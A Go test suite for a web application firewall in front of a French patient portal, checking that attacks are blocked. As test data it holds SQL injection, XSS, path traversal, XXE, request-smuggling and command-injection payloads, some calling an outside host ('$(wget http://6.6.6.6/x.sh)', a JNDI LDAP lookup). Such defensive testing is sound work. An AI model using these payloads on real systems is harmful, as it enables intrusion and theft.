package main

import (
	"net/http"
	"net/netip"
	"net/url"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
)

// counting counts what reaches the portal.
func counting(reached *atomic.Int64) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		reached.Add(1)
		echo(w, r)
	}
}

func TestAttacksAreRefused(t *testing.T) {
	var reached atomic.Int64
	h := open(t, counting(&reached))
	client := h.browser(true)
	query := func(value string) *http.Request {
		return request(t, "GET", "/patients?nom="+url.QueryEscape(value), "")
	}
	form := func(value string) *http.Request {
		return request(t, "POST", "/contact", "message="+url.QueryEscape(value))
	}
	cookie := func(value string) *http.Request {
		r := request(t, "GET", "/", "")
		r.Header.Set("Cookie", "lang="+value)
		return r
	}
	header := func(name, value string) *http.Request {
		r := request(t, "GET", "/", "")
		r.Header.Set(name, value)
		return r
	}
	kind := func(contentType, body string) *http.Request {
		r := request(t, "POST", "/contact", body)
		r.Header.Set("Content-Type", contentType)
		return r
	}
	for _, c := range []struct {
		name string
		r    *http.Request
	}{
		{"SQLi in a query", query("x' OR 1=1 -- ")},
		{"SQLi union", query("1 UNION SELECT password FROM users")},
		{"SQLi in a form", form("'; DROP TABLE guichet.trace; --")},
		{"SQLi timing", form("1 AND (SELECT pg_sleep(5))")},
		{"SQLi in a cookie", cookie("x' OR '1'='1")},
		{"SQLi in a path", request(t, "GET", "/reports/1'%20OR%201=1%20--", "")},
		{"XSS in a query", query("<script>alert(1)</script>")},
		{"XSS by event", form("<img src=x onerror=alert(document.cookie)>")},
		{"XSS by scheme", query("javascript:alert(1)")},
		{"XSS in a referer", header("Referer", "https://x.example/<script>alert(1)</script>")},
		{"LFI", query("../../../../etc/passwd")},
		{"LFI encoded", request(t, "GET", "/static/..%2f..%2f..%2fetc%2fpasswd", "")},
		{"LFI in a form", form("/etc/shadow")},
		{"RCE", query(";cat /etc/passwd")},
		{"RCE by substitution", form("$(wget http://6.6.6.6/x.sh)")},
		{"RFI", query("http://6.6.6.6/shell.php?")},
		{"JNDI", header("User-Agent", "${jndi:ldap://6.6.6.6/a}")},
		{"PHP", query("<?php system('id'); ?>")},
		{"response splitting", query("x\r\nSet-Cookie: a=b")},
		{"scanner", header("User-Agent", "sqlmap/1.7.2#stable")},
		{"dot file", request(t, "GET", "/.git/config", "")},
		{"backup", request(t, "GET", "/index.bak", "")},
		{"TRACE", request(t, "TRACE", "/", "")},
		{"PUT", request(t, "PUT", "/reports/1", "a=b")},
		{"DELETE", request(t, "DELETE", "/reports/1", "")},
		{"JSON", kind("application/json", `{"a":"b"}`)},
		{"XML", kind("application/xml", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`)},
		{"multipart", kind("multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"f\"\r\n\r\nx\r\n--b--\r\n")},
		{"two kinds", kind("application/x-www-form-urlencoded, application/json", "a=b")},
		{"other charset", kind("application/x-www-form-urlencoded; charset=utf-7", "a=b")},
		{"compressed body", header("Content-Encoding", "gzip")},
		{"method override", header("X-HTTP-Method-Override", "DELETE")},
		{"many arguments", request(t, "POST", "/contact", strings.Repeat("a=b&", 400))},
	} {
		t.Run(c.name, func(t *testing.T) {
			before := reached.Load()
			response, text := h.send(client, c.r)
			if response.StatusCode != http.StatusForbidden {
				t.Errorf("status %d: %s", response.StatusCode, lastLine(h.log.String()))
			}
			if reached.Load() != before {
				t.Error("the portal was reached")
			}
			if c.r.Method != "HEAD" {
				checkPage(t, response, text)
			}
		})
	}
}

// checkPage wants a page of the WAF: whole, French, self-contained, safe.
func checkPage(t *testing.T, response *http.Response, text string) {
	t.Helper()
	for name, want := range map[string]string{
		"Content-Type": "text/html; charset=utf-8", "Cache-Control": "no-store", "X-Content-Type-Options": "nosniff",
		"Referrer-Policy":           "no-referrer",
		"Strict-Transport-Security": "max-age=63072000; includeSubDomains",
		"Content-Security-Policy":   "default-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'",
	} {
		if got := response.Header.Get(name); got != want {
			t.Errorf("%s is %q, want %q", name, got, want)
		}
	}
	for _, want := range []string{`<html lang="fr">`, "<title>", "<h1>", "Si vous appelez le support, donnez cette référence", `<a href="/">`} {
		if !strings.Contains(text, want) {
			t.Errorf("the page lacks %s", want)
		}
	}
	for _, unwanted := range []string{"style", "script", "src=", "{", "Coraza", "nginx"} {
		if strings.Contains(text, unwanted) {
			t.Errorf("the page holds %q", unwanted)
		}
	}
}

func TestTheReferenceLeadsToTheLogLine(t *testing.T) {
	h := open(t, echo)
	_, text := h.send(h.browser(true), request(t, "GET", "/?a="+url.QueryEscape("<script>alert(1)</script>"), ""))
	_, after, _ := strings.Cut(text, "<strong>")
	shown, _, _ := strings.Cut(after, "</strong>")
	line := lastLine(h.log.String())
	if shown == "" || !strings.Contains(line, `"reference":"`+shown+`"`) || !strings.Contains(line, `"request_id":"`+strings.ToLower(strings.ReplaceAll(shown, "-", ""))) {
		t.Errorf("reference %q, log line %s", shown, line)
	}
	if !strings.Contains(line, `"refused":true`) || !strings.Contains(line, "941110") {
		t.Errorf("the log does not say which rule refused: %s", line)
	}
}

func TestOnlyThePublicHostIsServed(t *testing.T) {
	var reached atomic.Int64
	h := open(t, counting(&reached))
	for host, want := range map[string]int{
		publicName: 200, "PORTAIL.example": 200, publicName + ":443": 200, publicName + ":8443": 421, "evil.example": 421,
		"127.0.0.1": 421, publicName + ".evil.example": 421, publicName + ".": 421, "localhost": 421,
	} {
		for _, http2 := range []bool{true, false} {
			before := reached.Load()
			r := request(t, "GET", "/", "")
			r.Host = host
			response, text := h.send(h.browser(http2), r)
			if response.StatusCode != want {
				t.Errorf("Host %s: status %d, want %d", host, response.StatusCode, want)
			}
			if want != http.StatusOK {
				checkPage(t, response, text)
				if reached.Load() != before {
					t.Errorf("Host %s reached the portal", host)
				}
			}
		}
	}
}

func TestOddRequestLinesAreRefused(t *testing.T) {
	var reached atomic.Int64
	h := open(t, counting(&reached))
	rest := " HTTP/1.1\r\nHost: " + publicName + "\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nConnection: close\r\n\r\n"
	for _, line := range []string{
		"GET https://" + publicName + "/reports", "GET https://evil.example/", "OPTIONS *", "CONNECT " + publicName + ":443", "GET //evil.example/x",
		"GET /a\"b", "GET /a<b", "GET /a{b}", "GET /a\\b", "GET /%zz", "GET /?a=%zz", "GET /?a;b", "GET /a#b", "GET a", "GET /\x7f", "GÉT /",
	} {
		response, _ := h.raw(line + rest)
		if response != nil && (response.StatusCode < 400 || response.StatusCode >= 500) {
			t.Errorf("%s: status %d", line, response.StatusCode)
		}
	}
	if reached.Load() != 0 {
		t.Errorf("%d reached the portal", reached.Load())
	}
}

func TestSmuggledRequestsStayOne(t *testing.T) {
	head := "POST /contact HTTP/1.1\r\nHost: " + publicName + "\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nContent-Type: application/x-www-form-urlencoded\r\n"
	const inner = "GET /inner HTTP/1.1\r\nHost: " + publicName + "\r\n\r\n"
	for name, text := range map[string]string{
		"both lengths":         head + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + inner,
		"two lengths":          head + "Content-Length: 0\r\nContent-Length: 40\r\n\r\n" + inner,
		"odd encoding":         head + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + inner,
		"encoding with a tab":  head + "Transfer-Encoding:\tchunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + inner,
		"space before colon":   head + "Content-Length : 40\r\n\r\n" + inner,
		"folded header":        head + "X-A: b\r\n Content-Length: 40\r\n\r\n" + inner,
		"signed length":        head + "Content-Length: +40\r\n\r\n" + inner,
		"bare carriage return": head + "X-A: b\rContent-Length: 40\r\n\r\n" + inner,
		"bad chunk":            head + "Transfer-Encoding: chunked\r\n\r\n0x4\r\nabcd\r\n0\r\n\r\n" + inner,
		"no host":              strings.Replace(head, "Host: "+publicName+"\r\n", "", 1) + "Content-Length: 0\r\n\r\n",
		"two hosts":            head + "Host: evil.example\r\nContent-Length: 0\r\n\r\n",
	} {
		t.Run(name, func(t *testing.T) {
			var reached atomic.Int64
			h := open(t, counting(&reached))
			response, _ := h.raw(text)
			if reached.Load() > 1 || strings.Contains(h.log.String(), "/inner") {
				t.Errorf("the inner request was taken for one")
			}
			if response != nil && response.StatusCode == http.StatusOK && !response.Close {
				t.Error("the connection stays open behind a body without a length")
			}
		})
	}
}

func TestBodiesAreLimited(t *testing.T) {
	var reached atomic.Int64
	h := open(t, counting(&reached), func(s settingsOf) { s.config.MaxBody = 4 << 10 })
	value := func(length int) string { return "a=" + strings.Repeat("x", length-2) }
	for _, http2 := range []bool{true, false} {
		for _, chunked := range []bool{false, true} {
			r := request(t, "POST", "/contact", value(4<<10))
			if chunked {
				r.ContentLength = -1
			}
			if got := h.arrived(h.browser(http2), r); len(got.Body) != 4<<10 {
				t.Errorf("a body at the limit arrived with %d bytes", len(got.Body))
			}
			before := reached.Load()
			r = request(t, "POST", "/contact", value(4<<10+1))
			if chunked {
				r.ContentLength = -1
			}
			response, text := h.send(h.browser(http2), r)
			if response.StatusCode != http.StatusRequestEntityTooLarge || reached.Load() != before {
				t.Errorf("HTTP/2 %v, chunks %v: status %d", http2, chunked, response.StatusCode)
			}
			checkPage(t, response, text)
		}
	}
}

func TestBodiesTogetherAreLimited(t *testing.T) {
	h := open(t, echo, func(s settingsOf) { s.bounds.bodyBytes = 40 << 10 })
	response, _ := h.send(h.browser(true), request(t, "POST", "/contact", "a="+strings.Repeat("x ", 30<<10)))
	if response.StatusCode != http.StatusServiceUnavailable {
		t.Errorf("beyond the budget: status %d", response.StatusCode)
	}
	// What was refused, and what was served, gave its bytes back.
	for range 5 {
		h.arrived(h.browser(true), request(t, "POST", "/contact", "a=b"))
	}
	if held := h.service.server.Handler.(*gate).bodies.held.Load(); held != 0 {
		t.Errorf("%d bytes are still held", held)
	}
}

// TestLongTextsAreRefusedFirst: the expressions must not run over them. One
// kilobyte costs them about 15 ms, so a long text would hold up everybody.
func TestLongTextsAreRefusedFirst(t *testing.T) {
	judge, err := compiled()
	if err != nil {
		t.Fatal(err)
	}
	attack := url.QueryEscape("1 UNION SELECT password FROM users; <script>alert(1)</script> ")
	for _, c := range []struct {
		name, body string
		rule       int
	}{
		{"in all", strings.Repeat("a="+attack+attack+"&", 200), 10006},
		{"in one field", "a=" + strings.Repeat(attack, 150), 10007},
		{"by far", "a=" + strings.Repeat(attack, 5000), 10006},
	} {
		r := request(t, "POST", "/contact", c.body)
		r.RequestURI = "/contact"
		r.Header.Set("Content-Length", strconv.Itoa(len(c.body)))
		got, err := judge.inspect(r, netip.MustParseAddr("192.0.2.1"), func() ([]byte, error) { return []byte(c.body), nil })
		if err != nil || !got.refused || !slices.Equal(got.rules, []int{c.rule}) {
			t.Errorf("%s: got %+v, %v, want only rule %d", c.name, got, err, c.rule)
		}
	}
}

// TestNoTemporaryFiles takes the folder for such files away: whoever wants to
// write one fails, and with it the request.
func TestNoTemporaryFiles(t *testing.T) {
	h := open(t, echo, func(s settingsOf) { s.config.MaxBody = 1 << 20 })
	folder := t.TempDir()
	t.Setenv("TMPDIR", folder)
	judge, err := newFirewall() // tries the folder, with an empty file
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(folder); err != nil {
		t.Fatal(err)
	}
	h.service.server.Handler.(*gate).firewall = judge
	client := h.browser(true)
	h.arrived(client, request(t, "POST", "/contact", "message="+strings.Repeat("mot+", 1500)))
	for _, c := range []struct {
		kind, body string
		rules      string
	}{
		{"application/x-www-form-urlencoded", "m=" + strings.Repeat("x", 900<<10), `"rules":[10006]`},
		// Refused by its kind alone, before it is read or taken apart.
		{"multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"f.txt\"\r\n\r\ncanary\r\n--b--\r\n", `"rules":[10001]`},
	} {
		r := request(t, "POST", "/contact", c.body)
		r.Header.Set("Content-Type", c.kind)
		response, _ := h.send(client, r)
		if line := lastLine(h.log.String()); response.StatusCode != http.StatusForbidden || !strings.Contains(line, c.rules) {
			t.Errorf("%s: status %d, %s", c.kind, response.StatusCode, line)
		}
	}
}

func TestCopyBuffersAreWiped(t *testing.T) {
	var buffers clearedBuffers
	buffer := buffers.Get()
	copy(buffer, "health data")
	buffers.Put(buffer)
	if slices.ContainsFunc(buffer, func(b byte) bool { return b != 0 }) {
		t.Error("a buffer was given back with what it held")
	}
}
